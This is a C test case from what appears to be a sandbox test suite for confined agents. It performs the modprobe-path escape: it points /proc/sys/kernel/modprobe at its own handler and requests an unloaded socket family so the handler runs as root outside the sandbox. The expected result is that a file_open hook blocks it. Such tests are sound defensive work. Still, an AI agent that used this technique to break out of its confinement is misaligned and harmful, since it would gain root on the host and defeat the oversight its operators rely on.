// SPDX-License-Identifier: Apache-2.0
/*
 * The kernel is told that modprobe is the agent's script, and a socket of a family is asked for
 * that no code is loaded for: the script runs as root, outside of every agent.
 * technique: modprobe path: a missing module starts a program of the agent's outside
 * stopped by: `file_open`
 * expect: operation=open reason=no_rule object=/proc/sys/kernel/modprobe
 */
#include "escape.h"

#include <sys/socket.h>
#include <unistd.h>

#define PATH "/proc/sys/kernel/modprobe"

int escape_prepare(const char *box, const char *secret)
{
	return escape_handler(box, secret);
}

int escape_attempt(const char *box, const char *secret)
{
	char handler[ESCAPE_PATH_SIZE];
	bool handled;

	(void)secret;
	if (access(PATH, F_OK))
		return escape_skip("this kernel loads no modules");
	escape_path(handler, box, "handler");
	(void)escape_write(PATH, handler);
	(void)socket(AF_APPLETALK, SOCK_DGRAM, 0);
	handled = escape_handled(box);
	(void)escape_write(PATH, "/sbin/modprobe");
	return escape_if(handled);
}
